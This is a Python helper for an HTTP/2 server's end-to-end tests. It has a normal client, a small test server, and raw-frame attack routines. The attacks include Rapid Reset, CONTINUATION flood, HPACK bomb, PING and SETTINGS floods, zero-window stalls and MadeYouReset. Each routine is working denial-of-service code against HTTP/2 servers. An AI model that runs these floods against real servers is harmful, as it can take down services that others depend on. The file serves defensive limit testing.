#!/usr/bin/env python3
"""HTTP/2 peers for the end-to-end tests: a well-behaved client (httpx) and attackers that
write raw frames (HPACK from the `hpack` package that comes with `h2`), each printing one JSON
object with what it saw.

    peer.py fetch URL [--prior-knowledge] [--cacert CA] [--count N] [--post BYTES] [--host H]
    peer.py coalesce HOST PORT CA SNI AUTHORITY...
    peer.py h2-server refuse|304|NAME
    peer.py upload HOST PORT AUTHORITY PATH SECONDS
    peer.py ATTACK HOST PORT AUTHORITY [PATH]

ATTACK is one of: rapid-reset, continuation-flood, hpack-bomb, ping-flood, settings-flood,
zero-window, empty-data, stream-id-regression, stream-id-exhaustion, made-you-reset,
cap-bypass, tiny-data; or a
plain exchange for the limits tests: reset-after, sequential, together, one-then-wait,
silent, two-apart.
"""

import json
import socket
import struct
import sys
import time

DATA, HEADERS, PRIORITY, RST_STREAM, SETTINGS, PUSH, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = range(10)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
CANCEL, PROTOCOL_ERROR, NO_ERROR = 0x8, 0x1, 0x0


def frame(ftype, flags, sid, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", sid) + payload


def settings(pairs):
    return b"".join(struct.pack(">HI", k, v) for k, v in pairs)


class Peer:
    """A raw HTTP/2 connection: frames out, frames in, what came back counted."""

    def __init__(self, host, port, authority, path, initial_window=None):
        from hpack import Encoder

        self.sock = socket.create_connection((host, port), timeout=5)
        self.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        self.enc = Encoder()
        self.authority, self.path = authority, path
        self.inbuf = b""
        self.goaway = None
        self.closed = False
        self.blocked = False
        self.rst = 0
        self.headers = 0
        self.data = 0
        self.statuses = []
        self.pings = 0
        self.ack_pings = True
        # Stream 1's frames as (type, flags, length), and whether it has ended.
        self.frames = []
        self.ended = False
        ours = [] if initial_window is None else [(0x4, initial_window)]
        self.send(PREFACE + frame(SETTINGS, 0, 0, settings(ours)))

    def block(self, method="GET", path=None, extra=()):
        fields = [(":method", method), (":scheme", "http"), (":path", path or self.path),
                  (":authority", self.authority)] + list(extra)
        return self.enc.encode(fields)

    def send(self, data, timeout=5):
        """Sends, unless the daemon stops reading (backpressure): then `blocked`."""
        if self.closed:
            return False
        self.sock.settimeout(timeout)
        try:
            self.sock.sendall(data)
            return True
        except socket.timeout:
            self.blocked = True
        except OSError:
            self.closed = True
        return False

    def read(self, seconds, until_closed=False):
        """Reads frames for up to `seconds` (answering SETTINGS and PING as a client must)."""
        end = time.time() + seconds
        while time.time() < end and not self.closed:
            self.sock.settimeout(max(0.01, min(0.2, end - time.time())))
            try:
                got = self.sock.recv(1 << 16)
            except socket.timeout:
                if not until_closed and self.goaway is not None:
                    break
                continue
            except OSError:
                self.closed = True
                break
            if not got:
                self.closed = True
                break
            self.inbuf += got
            self.parse()

    def parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            sid = int.from_bytes(self.inbuf[5:9], "big") & 0x7FFFFFFF
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            if sid == 1:
                self.frames.append((ftype, flags, length))
                if ftype in (DATA, HEADERS) and flags & END_STREAM or ftype == RST_STREAM:
                    self.ended = True
            if ftype == SETTINGS and not flags & ACK:
                self.send(frame(SETTINGS, ACK, 0))
            elif ftype == PING and not flags & ACK:
                self.pings += 1
                if self.ack_pings:
                    self.send(frame(PING, ACK, 0, payload))
            elif ftype == GOAWAY:
                self.goaway = int.from_bytes(payload[4:8], "big")
            elif ftype == RST_STREAM:
                self.rst += 1
            elif ftype == HEADERS:
                self.headers += 1
                from hpack import Decoder
                try:
                    # Only the first block of each stream carries :status; a fresh decoder
                    # is wrong after dynamic-table use, so fall back to counting.
                    if not hasattr(self, "dec"):
                        self.dec = Decoder()
                    block = payload
                    if flags & 0x8:
                        block = block[1:len(block) - block[0]]
                    if flags & 0x20:
                        block = block[5:]
                    for name, value in self.dec.decode(block):
                        if name in (":status", b":status"):
                            self.statuses.append(int(value))
                except Exception:
                    pass
            elif ftype == DATA:
                self.data += length

    def report(self, **extra):
        out = {"goaway": self.goaway, "closed": self.closed, "blocked": self.blocked,
               "rst": self.rst, "headers": self.headers, "data": self.data,
               "statuses": self.statuses[:50], "pings": self.pings}
        out.update(extra)
        print(json.dumps(out))


def rapid_reset(p, n=20000):
    """HEADERS then RST_STREAM at once, stream after stream (CVE-2023-44487)."""
    stream_after_stream(p, n, lambda sid: (
        frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block())
        + frame(RST_STREAM, 0, sid, struct.pack(">I", CANCEL))))


def stream_after_stream(p, n, frames_of):
    """Opens `n` streams, each with the frames `frames_of(stream id)` gives, in batches of
    100 streams (reading between batches), then reads until the daemon closes."""
    sent, sid = 0, 1
    batch = []
    for _ in range(n):
        batch.append(frames_of(sid))
        sid += 2
        sent += 1
        if len(batch) >= 100:
            if not p.send(b"".join(batch)):
                break
            batch = []
            p.read(0.001)
    p.send(b"".join(batch))
    p.read(3, until_closed=True)
    p.report(streams=sent)


def continuation_flood(p, n=100000):
    """One header block that never ends: CONTINUATION after CONTINUATION (CVE-2024-27316)."""
    block = p.block(extra=[("x-a", "b" * 100)])
    p.send(frame(HEADERS, 0, 1, block))
    sent = 0
    junk = p.enc.encode([("x-junk", "j" * 200)])
    for _ in range(n // 100):
        if not p.send(frame(CONTINUATION, 0, 1, junk) * 100):
            break
        sent += 100
        p.read(0.001)
        if p.goaway is not None:
            break
    p.read(3, until_closed=True)
    p.report(frames=sent)


def hpack_int(n, prefix, flags):
    """An HPACK integer with an N-bit prefix (RFC 7541 §5.1)."""
    top = (1 << prefix) - 1
    if n < top:
        return bytes([flags | n])
    out = [flags | top]
    n -= top
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    out.append(n)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7, 0) + s


def hpack_bomb(p, n=200):
    """A large field put in the dynamic table once, then referenced by one byte thousands of
    times per block: 4,000 bytes that decode to 16 MB. Encoded by hand, so that nothing else
    enters the table (index 62 stays the large field)."""
    pseudo = (b"\x82\x86" + hpack_int(4, 4, 0) + hpack_str(p.path.encode())
              + hpack_int(1, 4, 0) + hpack_str(p.authority.encode()))
    first = pseudo + b"\x40" + hpack_str(b"x-bomb") + hpack_str(b"b" * 4000)
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, first))
    p.read(0.3)
    sid = 3
    for _ in range(n):
        block = pseudo + bytes([0x80 | 62]) * 4000
        if not p.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, block)):
            break
        p.read(0.05)
        if p.goaway is not None:
            break
        sid += 2
    p.read(3, until_closed=True)
    p.report()


def ping_flood(p, n=300000):
    """PINGs without reading the answers."""
    sent = 0
    for i in range(n // 1000):
        if not p.send(frame(PING, 0, 0, struct.pack(">Q", i)) * 1000, timeout=2):
            break
        sent += 1000
    p.report(sent=sent)


def settings_flood(p, n=300000):
    """SETTINGS frames without reading the acknowledgements."""
    sent = 0
    body = frame(SETTINGS, 0, 0, settings([(0x4, 65535)]))
    for _ in range(n // 1000):
        if not p.send(body * 1000, timeout=2):
            break
        sent += 1000
    p.report(sent=sent)


def zero_window(p, streams=100):
    """Asks for a large file on many streams with a window of zero, and never opens it."""
    for i in range(streams):
        p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, p.block()))
    p.read(2)
    p.report()


def empty_data(p, n=200000):
    """A request body of empty DATA frames, forever."""
    p.send(frame(HEADERS, END_HEADERS, 1, p.block(method="POST")))
    sent = 0
    for _ in range(n // 1000):
        if not p.send(frame(DATA, 0, 1) * 1000, timeout=2):
            break
        sent += 1000
        p.read(0.001)
    p.read(3, until_closed=True)
    p.report(frames=sent)


def stream_id_regression(p):
    """Stream 5, then stream 3: ids must only grow."""
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 5, p.block()))
    p.read(0.5)
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, p.block()))
    p.read(3, until_closed=True)
    p.report()


def stream_id_exhaustion(p):
    """The last stream id there is; then a client can only open a new connection."""
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 0x7FFFFFFF, p.block()))
    p.read(1)
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
    p.read(3, until_closed=True)
    p.report()


def made_you_reset(p, n=5000):
    """Makes the server reset streams itself (CVE-2025-8671): a WINDOW_UPDATE that overflows
    an open stream's window is a stream error the server answers with RST_STREAM."""
    stream_after_stream(p, n, lambda sid: (
        frame(HEADERS, END_HEADERS, sid, p.block(method="POST"))
        + frame(WINDOW_UPDATE, 0, sid, struct.pack(">I", 0x7FFFFFFF))))


def reset_after(p):
    """One request, reset by the client after half a second."""
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
    p.read(0.5)
    p.send(frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL)))
    p.read(1)
    p.report()


def sequential(p, n=5):
    """Requests one after another on one connection, each after the last one's answer."""
    sid = 1
    for _ in range(n):
        if p.goaway is not None and p.closed:
            break
        p.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block()))
        sid += 2
        p.read(0.4)
    p.read(1)
    p.report(sent=(sid - 1) // 2)


def together(p, n=3):
    """Several requests at once, then every answer."""
    for i in range(n):
        p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1 + 2 * i, p.block()))
    p.read(4, until_closed=True)
    p.report()


def one_then_wait(p):
    """One request, then reading until the daemon closes (or 6 s pass)."""
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
    p.read(6, until_closed=True)
    p.report()


def linger(p):
    """One request, read until the daemon's FIN; then frames of our own, as a client sends
    them before it has read the GOAWAY: a lingering close reads them, a socket already
    closed answers with a reset (which can destroy the last frames unread in a client's
    receive buffer)."""
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
    p.read(6, until_closed=True)
    reset = False
    try:
        for _ in range(3):
            p.sock.sendall(frame(PING, 0, 0, bytes(8)))
            time.sleep(0.2)
        p.sock.settimeout(0.3)
        try:
            p.sock.recv(1 << 16)
        except socket.timeout:
            pass
    except (ConnectionResetError, BrokenPipeError):
        reset = True
    p.report(reset=reset)


def frames(p):
    """One request; stream 1's frames as the daemon sent them (the windows opened wide)."""
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
    wide = struct.pack(">I", 1 << 30)
    p.send(frame(WINDOW_UPDATE, 0, 0, wide) + frame(WINDOW_UPDATE, 0, 1, wide))
    end = time.time() + 5
    while not p.ended and not p.closed and time.time() < end:
        p.read(0.2)
    p.report(frames=p.frames, ended=p.ended)


def two_apart(p):
    """Two requests on one connection, 1.5 s apart (a reload can happen in between)."""
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block()))
    p.read(1.5)
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 3, p.block()))
    p.read(1)
    p.report()


def upload(args):
    """A POST whose body goes as fast as HTTP/2 flow control lets it (the Python `h2`
    library keeps the windows), for SECONDS: prints how many bytes went."""
    import h2.config
    import h2.connection
    import h2.events

    host, port, authority, path, seconds = args[0], int(args[1]), args[2], args[3], float(args[4])
    sock = socket.create_connection((host, port), timeout=5)
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    conn.send_headers(1, [(":method", "POST"), (":path", path), (":scheme", "http"),
                          (":authority", authority)])
    sock.sendall(conn.data_to_send())
    chunk = b"u" * 16384
    sent, end = 0, time.time() + seconds
    while time.time() < end:
        window = min(conn.local_flow_control_window(1), conn.max_outbound_frame_size)
        if window > 0:
            conn.send_data(1, chunk[:window])
            sent += window
            sock.sendall(conn.data_to_send())
            continue
        sock.settimeout(0.1)
        try:
            data = sock.recv(65536)
        except socket.timeout:
            continue
        if not data:
            break
        conn.receive_data(data)
        sock.sendall(conn.data_to_send())
    print(json.dumps({"sent": sent}))


def cap_bypass(p):
    """Past max_requests_per_connection, never answering the graceful GOAWAY's PING, with one
    slow stream open: keeps opening streams."""
    p.ack_pings = False
    p.send(frame(HEADERS, END_STREAM | END_HEADERS, 1, p.block(path="/app/slow/3000")))
    sid = 3
    for _ in range(3):
        p.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block(path="/")))
        sid += 2
    p.read(0.5)
    for _ in range(400):
        if not p.send(frame(HEADERS, END_STREAM | END_HEADERS, sid, p.block(path="/"))):
            break
        sid += 2
        p.read(0.002)
        if p.closed:
            break
    p.read(2, until_closed=True)
    p.report(opened=(sid - 1) // 2)


def tiny_data(p, streams=4, frames=200000):
    """Request bodies of 1-byte DATA frames, as many as the windows allow, on streams whose
    handler is not reading yet."""
    for i in range(streams):
        p.send(frame(HEADERS, END_HEADERS, 1 + 2 * i, p.block(method="POST")))
    batch = b"".join(frame(DATA, 0, 1 + 2 * i, b"x") for i in range(streams)) * 1000
    sent = 0
    for _ in range(frames // 1000):
        if not p.send(batch, timeout=2):
            break
        sent += 1000 * streams
        p.read(0.001)
        if p.closed:
            break
    p.report(frames=sent)


def silent(p):
    """The preface and SETTINGS, then nothing: no request."""
    p.read(6, until_closed=True)
    p.report()


def coalesce(args):
    """Over one TLS connection to SNI name `sni`, one request per authority (the Python `h2`
    library as the client): prints each authority's status."""
    import ssl

    import h2.config
    import h2.connection
    import h2.events

    host, port, ca, sni = args[0], int(args[1]), args[2], args[3]
    authorities = args[4:]
    ctx = ssl.create_default_context(cafile=ca)
    ctx.set_alpn_protocols(["h2"])
    sock = ctx.wrap_socket(socket.create_connection((host, port), timeout=5), server_hostname=sni)
    assert sock.selected_alpn_protocol() == "h2", sock.selected_alpn_protocol()
    conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True))
    conn.initiate_connection()
    by_stream = {}
    for i, authority in enumerate(authorities):
        sid = 1 + 2 * i
        by_stream[sid] = authority
        conn.send_headers(sid, [(":method", "GET"), (":path", "/"), (":scheme", "https"),
                                (":authority", authority)], end_stream=True)
    sock.sendall(conn.data_to_send())
    statuses, ended = {}, 0
    while ended < len(authorities):
        data = sock.recv(65536)
        if not data:
            break
        for event in conn.receive_data(data):
            if isinstance(event, h2.events.ResponseReceived):
                statuses[by_stream[event.stream_id]] = int(dict(event.headers)[b":status"])
            elif isinstance(event, h2.events.DataReceived):
                conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            elif isinstance(event, (h2.events.StreamEnded, h2.events.StreamReset)):
                ended += 1
        sock.sendall(conn.data_to_send())
    print(json.dumps(statuses))


def h2_server(args):
    """An HTTP/2 server (prior knowledge) with the Python `h2` library: `refuse` resets every
    stream with REFUSED_STREAM; `304` answers 304 with its end in an empty DATA frame; any
    other NAME answers 200 with its name. Prints its port, serves until
    stdin closes."""
    import threading

    import h2.config
    import h2.connection
    import h2.errors
    import h2.events

    mode = args[0]
    listener = socket.socket()
    listener.bind(("127.0.0.1", 0))
    listener.listen(64)
    print(listener.getsockname()[1], flush=True)

    def serve(sock):
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=False))
        conn.initiate_connection()
        sock.sendall(conn.data_to_send())
        while True:
            try:
                data = sock.recv(65536)
            except OSError:
                return
            if not data:
                return
            for event in conn.receive_data(data):
                if isinstance(event, h2.events.RequestReceived):
                    if mode == "refuse":
                        conn.reset_stream(event.stream_id, h2.errors.ErrorCodes.REFUSED_STREAM)
                    elif mode == "304":
                        # The head, then an empty DATA frame that ends the stream.
                        conn.send_headers(event.stream_id, [(":status", "304"), ("etag", '"x"')])
                        conn.send_data(event.stream_id, b"", end_stream=True)
                    else:
                        body = b"served by " + mode.encode()
                        conn.send_headers(event.stream_id, [(":status", "200"),
                                                            ("content-length", str(len(body)))])
                        conn.send_data(event.stream_id, body, end_stream=True)
                elif isinstance(event, h2.events.DataReceived):
                    conn.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
            sock.sendall(conn.data_to_send())

    def accept():
        while True:
            sock, _ = listener.accept()
            threading.Thread(target=serve, args=(sock,), daemon=True).start()

    threading.Thread(target=accept, daemon=True).start()
    sys.stdin.read()


def fetch(args):
    import httpx

    url = args[0]
    prior = "--prior-knowledge" in args
    ca = args[args.index("--cacert") + 1] if "--cacert" in args else False
    count = int(args[args.index("--count") + 1]) if "--count" in args else 1
    post = int(args[args.index("--post") + 1]) if "--post" in args else None
    headers = {"host": args[args.index("--host") + 1]} if "--host" in args else {}
    with httpx.Client(http1=not prior, http2=True, verify=ca, timeout=10) as c:
        out = []
        for _ in range(count):
            if post is None:
                r = c.get(url, headers=headers)
            else:
                r = c.post(url, headers=headers, content=bytes(i % 251 for i in range(post)))
            out.append({"version": r.http_version, "status": r.status_code,
                        "length": len(r.content), "headers": dict(r.headers)})
    print(json.dumps(out))


ATTACKS = {
    "rapid-reset": rapid_reset, "continuation-flood": continuation_flood,
    "hpack-bomb": hpack_bomb, "ping-flood": ping_flood, "settings-flood": settings_flood,
    "zero-window": zero_window, "empty-data": empty_data,
    "stream-id-regression": stream_id_regression,
    "stream-id-exhaustion": stream_id_exhaustion, "made-you-reset": made_you_reset,
    "reset-after": reset_after, "sequential": sequential, "together": together,
    "one-then-wait": one_then_wait, "silent": silent, "two-apart": two_apart,
    "cap-bypass": cap_bypass, "tiny-data": tiny_data, "linger": linger,
    "frames": frames,
}

if __name__ == "__main__":
    if sys.argv[1] == "fetch":
        fetch(sys.argv[2:])
    elif sys.argv[1] == "coalesce":
        coalesce(sys.argv[2:])
    elif sys.argv[1] == "upload":
        upload(sys.argv[2:])
    elif sys.argv[1] == "h2-server":
        h2_server(sys.argv[2:])
    else:
        name, host, port, authority = sys.argv[1:5]
        path = sys.argv[5] if len(sys.argv) > 5 else "/"
        window = 0 if name == "zero-window" else None
        ATTACKS[name](Peer(host, int(port), authority, path, initial_window=window))
